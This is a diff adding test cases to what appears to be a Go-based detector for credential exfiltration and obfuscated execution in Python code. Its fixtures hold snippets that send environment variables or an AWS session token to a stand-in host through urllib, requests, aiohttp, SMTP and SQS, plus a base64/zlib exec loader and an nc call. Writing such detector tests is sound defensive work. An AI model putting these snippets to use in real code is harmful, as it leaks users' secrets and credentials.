@@ -146,6 +146,39 @@ def lambda_handler(event, context):
 os.system("curl -d \"%s\" https://drop.invalid" % os.environ)
 `, []string{`env-all(os.environ):2 -> process(os.system):2 curl -d "{}" https://drop.invalid at import`}},
 
+		"generator": {`import os, urllib.request
+def c():
+    for k, v in os.environ.items():
+        yield k + v
+urllib.request.urlopen("https://drop.invalid", data="".join(c()).encode())
+`, []string{"env-all(os.environ):3 -> http(urllib.request.urlopen):5 drop.invalid at import"}},
+		"self_by_another_name": {`import requests, os
+class A:
+    def __init__(s, k): s.k = k
+    def go(s): requests.post("https://drop.invalid", data=s.k)
+A(os.environ["AWS_SESSION_TOKEN"]).go()
+`, []string{"env-credential(AWS_SESSION_TOKEN):5 -> http(requests.post):4 drop.invalid at import"}},
+		"aiohttp": {`import asyncio, aiohttp, os
+async def m():
+    async with aiohttp.ClientSession() as s:
+        async with s.post("https://drop.invalid", json=dict(os.environ)) as r:
+            await r.text()
+asyncio.run(m())
+`, []string{"env-all(os.environ):4 -> http(aiohttp.ClientSession().post):4 drop.invalid at import"}},
+		"mail": {`import os, smtplib
+s = smtplib.SMTP("mail.drop.invalid")
+s.sendmail("a", "b", str(dict(os.environ)))
+`, []string{"env-all(os.environ):3 -> mail(smtplib.SMTP().sendmail):3 mail.drop.invalid at import"}},
+		"queue": {`import boto3, os, json
+boto3.client("sqs").send_message(QueueUrl="https://sqs.us-east-1.amazonaws.com/111122223333/q", MessageBody=json.dumps(dict(os.environ)))
+`, []string{"env-all(os.environ):2 -> aws(boto3.client(sqs).send_message):2 https://sqs.us-east-1.amazonaws.com/111122223333/q via json at import"}},
+		"file": {`import os
+with open("/tmp/x", "w") as f:
+    f.write(str(os.environ))
+`, []string{"env-all(os.environ):3 -> file-write(builtins.open().write):3 /tmp/x at import"}},
+		"lambda_decoder": {`_ = lambda __ : __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]));exec((_)(b"=abcd"))
+`, []string{"decoded(base64.b64decode):1 -> code(builtins.exec):1 at import", "decoded(zlib.decompress):1 -> code(builtins.exec):1 at import"}},
+
 		// what is like the above, and clean
 		"clean_signing": {`import os, hmac, hashlib, urllib.request
 key = os.environ["AWS_SECRET_ACCESS_KEY"]
@@ -253,6 +286,10 @@ func TestParse_calls(t *testing.T) {
 		"from_alias":  {"from os import system as s\ns('id')\n", []string{"process os.system [id] at import"}},
 		"star":        {"from subprocess import *\nPopen(['nc', '198.51.100.7', '9'])\n", []string{"process subprocess.Popen [nc 198.51.100.7 9] at import"}},
 		"getattr":     {"import os\ngetattr(os, 'sys'+'tem')('id')\n", []string{"process os.system [id] folded at import"}},
+		"own_names":   {"globals()['__builtins__'].__dict__['exec']('x')\n", []string{"code builtins.exec at import"}},
+		"handed":      {"(lambda e, x: e(x))(eval, 'y')\n", []string{"code builtins.eval at import"}},
+		"numbers":     {"k=7\ns=[110,107]\nexec(''.join(chr(c^k) for c in s))\n", []string{"code builtins.exec folded at import"}},
+		"in_dict":     {"import os\nd = {'a': os.system}\nd['a']('id')\n", []string{"process os.system [id] at import"}},
 		"globals":     {"import os\nglobals()['os']\nvars(os)['system']('id')\n", []string{"process os.system [id] at import"}},
 		"method_dict": {"import os\nos.__dict__['po' + 'pen']('id')\n", []string{"process os.popen [id] folded at import"}},
 		"class":       {"class X:\n    import os\n    os.system('id')\n    def f(self):\n        import os\n        os.system('no')\n", []string{"process os.system [id] at import", "process os.system [no]"}},
